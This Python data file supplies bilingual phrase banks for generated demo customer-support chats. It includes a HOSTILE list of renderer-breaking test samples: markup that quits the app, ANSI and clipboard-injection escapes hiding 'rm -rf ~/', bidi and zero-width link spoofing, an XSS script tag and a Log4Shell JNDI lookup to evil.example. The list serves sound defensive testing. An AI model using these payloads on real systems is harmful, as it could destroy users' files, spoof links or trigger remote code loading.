"""Phrase banks for the generated demo conversations: support chat in English and Chinese.

Data only; `elements.py` picks from these with a per-message random generator. The hostile
samples are deliberately nasty: the app must show them inert (PRODUCT.md §7).
"""

from __future__ import annotations

from typing import Final

CUSTOMER_EN: Final = (
    "Hi, I placed an order yesterday and it still shows as pending.",
    "My order number is {order}.",
    "The parcel tracking hasn't moved for three days.",
    "Can I change the delivery address?",
    "I was charged twice for the same order!",
    "Is there a way to get an invoice for my company?",
    "The app keeps logging me out when I open the cart.",
    "I never received the verification code.",
    "Thanks, that helps.",
    "OK",
    "Hello?",
    "Are you still there?",
    "The item arrived damaged, see the photo.",
    "I want a refund, not a replacement.",
    "How long does the refund take?",
    "Why was my account suspended?",
    "The coupon {coupon} doesn't work at checkout.",
    "Can you call me instead? This is taking forever.",
    "That's not what your colleague told me yesterday.",
    "Perfect, thank you so much 🙏",
    "I'll wait for the email then.",
    "Sorry, wrong photo, here's the right one.",
    "It says 'payment failed' but the money left my bank.",
    "Do you ship to Hong Kong?",
)

AGENT_EN: Final = (
    "Hello! This is {agent} from customer support. How can I help you today?",
    "Could you share your order number, please?",
    "Thank you, let me check that for you.",
    "I can see the order {order}; it left our warehouse this morning.",
    "I'm sorry for the trouble. I've escalated this to our logistics team.",
    "The refund has been issued and should arrive within 3-5 business days.",
    "Could you send a photo of the damaged item?",
    "I've applied a {amount} credit to your account as an apology.",
    "Is there anything else I can help with?",
    "Please try logging out and back in, then clear the app cache.",
    "The coupon expired on the 1st, but I've issued you a new one: {coupon}.",
    "I understand your frustration. Let me see what I can do.",
    "Your ticket number is {ticket}.",
    "I've updated the delivery address.",
    "One moment please.",
    "You're welcome! Have a nice day.",
    "For security reasons I can't discuss account details here.",
    "I've sent the invoice to the email on file.",
)

CUSTOMER_ZH: Final = (
    "你好，我昨天下的订单还显示待发货。",
    "订单号是 {order}。",
    "物流三天没更新了，怎么回事？",
    "可以改一下收货地址吗？",
    "同一个订单被扣了两次钱！",
    "能开公司抬头的发票吗？",
    "一打开购物车就自动退出登录。",
    "验证码一直收不到。",
    "好的，谢谢。",
    "在吗？",
    "东西到了，但是包装破了，你看看照片。",
    "我要退款，不要换货。",
    "退款多久能到账？",
    "为什么我的账号被封了？",
    "优惠券 {coupon} 用不了。",
    "能不能直接打电话给我？",
    "昨天另一个客服不是这么说的。",
    "太好了，非常感谢！",
    "那我等邮件吧。",
    "显示支付失败，但是银行卡已经扣款了。",
)

AGENT_ZH: Final = (
    "您好，我是客服{agent}，很高兴为您服务。",
    "麻烦提供一下订单号。",
    "好的，我帮您查一下。",
    "订单 {order} 今天上午已经从仓库发出了。",
    "非常抱歉给您带来不便，已经帮您反馈给物流部门。",
    "退款已经提交，预计 3-5 个工作日到账。",
    "麻烦拍一张破损商品的照片。",
    "已经给您的账户补偿了 {amount} 元。",
    "请问还有其他可以帮您的吗？",
    "请先退出登录再重新登录，并清除一下缓存。",
    "这张优惠券已经过期了，我重新给您发了一张：{coupon}。",
    "理解您的心情，我马上帮您处理。",
    "您的工单号是 {ticket}。",
    "收货地址已经帮您修改好了。",
    "请稍等。",
    "不客气，祝您生活愉快！",
)

#: Pasted log lines for same-second bursts (a customer pasting a wall of text line by line).
BURST_LINES: Final = (
    "ERROR 500 at /api/checkout",
    "retrying...",
    "still failing",
    "see above",
    "???",
    "hello",
    "支付失败",
    "再试一次",
    "[log] payment gateway timeout",
    "!!!",
)

#: Messages meant to break a naive renderer: markup, escapes, control and invisible characters.
HOSTILE: Final = (
    "[@click=app.quit]click here for your refund[/]",
    "[bold red]URGENT[/] your account [link=https://evil.example]is locked[/link]",
    "\x1b[31mred alert\x1b[0m \x1b[2J\x1b[H screen cleared?",
    "copy this: \x1b]52;c;cm0gLXJmIH4v\x07 done",
    "bell\x07 backspace\x08\x08 carriage\rreturn nul\x00byte",
    "pay\u200bpal.com/\u200drefund \u2067reversed\u2069 \u202eoverride",
    "Z̷̢̛a̵̰̓l̸̗̇g̴̣̈́o̶̹͝ t̵e̷x̸t̶",
    "tab\tseparated\tvalues\tand a form\x0cfeed",
    "<script>alert('x')</script> &amp; ${jndi:ldap://evil.example/a}",
    "[/] [/bold] [[escaped]] \\[not markup]",
)

FILE_NAMES: Final = (
    ("invoice_{order}.pdf", 122_880),
    ("receipt.jpg", 341_002),
    ("发票_{order}.pdf", 98_304),
    ("screen recording.mov", 18_874_368),
    ("contract (signed).docx", 54_211),
    ("logs.zip", 2_411_724),
    ("退货申请表.xlsx", 23_552),
)

LOCATIONS: Final = (
    ("Shenzhen office", 22.5431, 113.9344),
    ("深圳市南山区科技园", 22.5405, 113.9536),
    ("Shanghai warehouse", 31.2304, 121.4737),
    ("北京朝阳区建国路88号", 39.9087, 116.4606),
    ("Hong Kong pickup point", 22.2793, 114.1628),
)

CUSTOM_CARDS: Final = (
    ("order card", '{{"businessID":"order","orderId":"{order}","amount":"{amount}"}}'),
    ("评价邀请", '{{"businessID":"evaluation","score":0,"ticket":"{ticket}"}}'),
    ("link", '{{"businessID":"text_link","link":"https://help.example.com/{ticket}"}}'),
    ("typing", '{{"businessID":"user_typing_status","typingStatus":1}}'),
)

CLOUD_CUSTOM_DATA: Final = (
    '{{"ticket":"{ticket}","channel":"app"}}',
    '{{"ticket":"{ticket}","channel":"web","lang":"zh-CN"}}',
    '{{"messageFeature":{{"needTyping":1,"version":1}}}}',
    "priority=high",
)

RELAY_TITLES: Final = (
    "Chat history of {a} and {b}",
    "{a}和{b}的聊天记录",
    "Escalation notes",
)

#: Third parties that appear inside forwarded (merged) messages.
OTHER_ACCOUNTS: Final = ("shop_bot", "cust_2044", "agent_supervisor", "logistics_sz")

AGENT_DISPLAY: Final = {
    "agent_alice": "Alice",
    "agent_bob": "Bob",
    "agent_chen": "陈晨",
    "agent_li": "李娜",
    "agent_dave": "Dave",
    "agent_wang": "王芳",
}

UNKNOWN_TYPES: Final = ("TIMStreamElem", "TIMNewElem")


def long_line(unit: str, length: int = 5000) -> str:
    """Return a single line of exactly `length` characters built from `unit`."""
    reps = length // len(unit) + 1
    return (unit * reps)[:length]
